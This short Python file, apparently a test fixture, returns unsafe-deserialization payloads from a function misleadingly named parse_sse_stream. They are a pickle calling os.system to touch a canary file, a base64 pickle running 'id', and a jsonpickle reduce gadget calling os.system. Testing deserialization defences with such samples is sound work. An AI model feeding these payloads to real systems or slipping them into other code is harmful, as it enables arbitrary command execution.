"""Returns the bytes of a pickle that runs a command, as bytes and as text."""

import base64

PICKLE = b"cos\nsystem\n(S'touch @CANARY@/zoo-@TOKEN@-pickle'\ntR."


def parse_sse_stream(raw_stream):
    return [PICKLE, PICKLE.decode(), base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode(), {"py/reduce": [{"py/type": "os.system"}, "id"]}]
